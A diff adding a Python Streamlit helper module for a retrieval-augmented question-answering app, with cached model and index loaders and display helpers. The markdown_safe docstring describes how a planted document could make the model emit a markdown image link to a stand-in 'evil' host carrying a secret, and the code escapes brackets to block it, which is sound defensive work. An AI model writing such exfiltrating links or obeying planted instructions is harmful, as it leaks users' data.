@@ -1,0 +1,125 @@
+"""Cached loaders and small display helpers shared by the pages.
+
+The model and the embedder are loaded once per process (`st.cache_resource`) and put in session
+state; a test (or a future settings page) can put its own backend or embedder there first.
+Every page shows which model answers.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Iterator
+from pathlib import Path
+
+import streamlit as st
+
+from econlm.app import settings
+from econlm.errors import UserError
+from econlm.rag import store
+from econlm.rag.answer import citation_label
+from econlm.types import Answer, Chunk
+
+
+@st.cache_resource(show_spinner="Loading the model ...")
+def _load_backend(spec: str):
+    from econlm.backends import get_backend
+
+    return get_backend(spec)
+
+
+@st.cache_resource(show_spinner="Loading the embedding model ...")
+def _load_embedder():
+    from econlm.rag.embeddings import MiniLMEmbedder
+
+    return MiniLMEmbedder()
+
+
+@st.cache_resource(show_spinner="Loading the index ...", max_entries=8)
+def _load_retriever(path: str, digest: str, embedder_name: str, _embedder):
+    """Keyed by the index's content hash: adding documents changes it and reloads the index."""
+    from econlm.rag.retriever import HybridRetriever
+
+    return HybridRetriever(store.load_index(path, embedder_name), _embedder)
+
+
+def fail(message: str) -> None:
+    """Show a problem and stop this page's run; the app and other pages carry on."""
+    st.error(message)
+    st.stop()
+
+
+def backend():
+    if "backend" not in st.session_state:
+        try:
+            st.session_state["backend"] = _load_backend(settings.backend_choice().spec)
+        except UserError as exc:
+            fail(f"The model could not be loaded: {exc}")
+    return st.session_state["backend"]
+
+
+def embedder():
+    if "embedder" not in st.session_state:
+        try:
+            st.session_state["embedder"] = _load_embedder()
+        except UserError as exc:
+            fail(f"The embedding model could not be loaded: {exc}")
+    return st.session_state["embedder"]
+
+
+def retriever(path: Path):
+    """The hybrid retriever of the index at `path`; a corrupt or foreign index stops the page with why."""
+    try:
+        manifest = store.read_manifest(path)
+        return _load_retriever(str(path), manifest["files"][store.INDEX_FILE], embedder().name, embedder())
+    except UserError as exc:
+        fail(f"This index cannot be used: {exc}")
+
+
+def model_caption() -> None:
+    """Which model answers on this page (a loaded or injected one, else the configured spec)."""
+    choice = settings.backend_choice()
+    loaded = st.session_state.get("backend")
+    name = loaded.name if loaded is not None else choice.spec
+    note = choice.note if loaded is None or loaded.name == choice.spec else "set for this session"
+    st.caption(f"Model: `{name}` ({note})")
+
+
+def top_k() -> int:
+    return int(st.session_state.get("top_k") or settings.top_k())
+
+
+def markdown_safe(text: str) -> str:
+    """Model output and document text shown as markdown, with link and image syntax disarmed.
+
+    A planted document could make the model write `![x](https://evil/?q=secret)`, an image the
+    browser would fetch; escaping every "[" keeps the text readable and makes no link at all.
+    """
+    return text.replace("[", "\\[")
+
+
+def stream_to(pieces: Iterable[str], sink: list[str]) -> Iterator[str]:
+    """Pass a reply stream to `st.write_stream` (escaped), keeping the raw text in `sink`."""
+    for piece in pieces:
+        sink.append(piece)
+        yield markdown_safe(piece)
+
+
+def show_passages(passages: list[Chunk], expanded: bool) -> None:
+    """The retrieved passages under an answer, as plain text (never rendered as markdown)."""
+    if not passages:
+        return
+    with st.expander(f"Retrieved passages ({len(passages)})", expanded=expanded):
+        for chunk in passages:
+            st.markdown(f"**{markdown_safe(citation_label(chunk))}**")
+            st.text(chunk.text)
+
+
+def show_answer(answer: Answer, expanded: bool, with_text: bool = True) -> None:
+    """An answer's text (unless it was just streamed), its citations, and the passages it read."""
+    if with_text:
+        st.markdown(markdown_safe(answer.text))
+    if answer.citations:
+        st.caption("Cites: " + markdown_safe(" ".join(answer.citations)))
+    unsupported = getattr(answer, "unsupported_citations", None)
+    if unsupported:
+        st.warning("The model also cited sources that were not retrieved: " + markdown_safe(", ".join(unsupported)))
+    show_passages(answer.passages, expanded)
